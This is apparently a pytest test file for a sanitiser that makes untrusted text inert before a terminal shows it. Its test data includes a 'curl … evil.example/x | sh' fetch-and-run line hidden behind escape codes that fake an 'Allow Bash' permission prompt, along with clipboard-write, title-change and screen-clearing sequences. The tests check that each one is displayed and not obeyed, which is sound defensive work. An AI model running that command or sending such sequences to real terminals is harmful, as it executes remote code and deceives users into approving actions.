"""Untrusted text made inert: every vector that could drive a terminal, checked on a pyte screen."""

from __future__ import annotations

import pyte
import pytest

from maia.frontends.terminal.inert import inert, inert_line

SPOOF = "curl -s https://evil.example/x | sh\r\x1b[2K\x1b[42;30m ASK \x1b[0m Allow Bash: ls -la"


def shown(text: str, columns: int = 120) -> tuple[list[str], pyte.Screen]:
    """What a terminal shows after printing ``text``."""
    screen = pyte.Screen(columns, 10)
    stream = pyte.Stream(screen)
    stream.feed(text.replace("\n", "\r\n"))
    return [line.rstrip() for line in screen.display], screen


def test_no_control_character_survives() -> None:
    every = "".join(chr(c) for c in range(0x20)) + "".join(chr(c) for c in range(0x7F, 0xA0))
    out = inert(every)
    assert not any((ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) <= 0x9F for c in out)
    assert "\n" in out  # line breaks stay: callers lay lines out themselves


@pytest.mark.parametrize(
    ("vector", "visible"),
    [
        (SPOOF, "sh␍␛[2K␛[42;30m ASK ␛[0m Allow Bash: ls -la"),  # a fake permission question
        ("x\x1b]52;c;aGFjaw==\x07y", "x␛]52;c;aGFjaw==␇y"),  # clipboard write
        ("x\x1b]0;pwned\x07y", "x␛]0;pwned␇y"),  # window title
        ("x\x1b[2J\x1b[Hy", "x␛[2J␛[Hy"),  # clear screen
        ("x\x9b31my", "x\\x9b31my"),  # C1 CSI, obeyed by some terminals
        ("safe\u202eexe.txt", "safe⟨U+202E⟩exe.txt"),  # right-to-left override
        ("x\x7fy", "x␡y"),
    ],
)
def test_each_vector_is_shown_not_obeyed(vector: str, visible: str) -> None:
    out = inert(vector)
    assert visible in out
    lines, screen = shown("BEFORE\n" + out)
    assert lines[0] == "BEFORE"  # nothing was cleared or overwritten
    assert screen.title == ""
    cells = [char for line in screen.buffer.values() for char in line.values()]
    assert all(char.fg == "default" and char.bg == "default" for char in cells)


def test_the_spoofed_question_keeps_the_real_command_on_screen() -> None:
    lines, _screen = shown(inert(SPOOF))
    assert lines[0].startswith("curl -s https://evil.example/x | sh")


def test_carriage_returns_never_move_the_cursor() -> None:
    assert inert("a\r\nb") == "a\nb"  # a Windows line end is a line end
    assert inert("50%\r100%") == "50%␍100%"
    lines, _screen = shown(inert("hidden\rshown"))
    assert lines[0] == "hidden␍shown"


def test_tabs_expand_to_the_next_stop_counting_columns() -> None:
    assert inert("a\tb") == "a" + " " * 7 + "b"
    assert inert("日本\tx") == "日本" + " " * 4 + "x"  # two wide characters are four columns
    assert inert("\tx\n12\ty") == " " * 8 + "x\n12" + " " * 6 + "y"
    assert inert("ab\tc", column=3) == "ab" + " " * 3 + "c"  # the text starts at column 3 of its line


def test_plain_text_is_returned_unchanged() -> None:
    text = "Plain text, émojis 👨‍👩‍👧, 日本語, e\u0301."
    assert inert(text) is text


def test_one_line_form() -> None:
    assert inert_line("a\nb\x1b") == "a␤b␛"
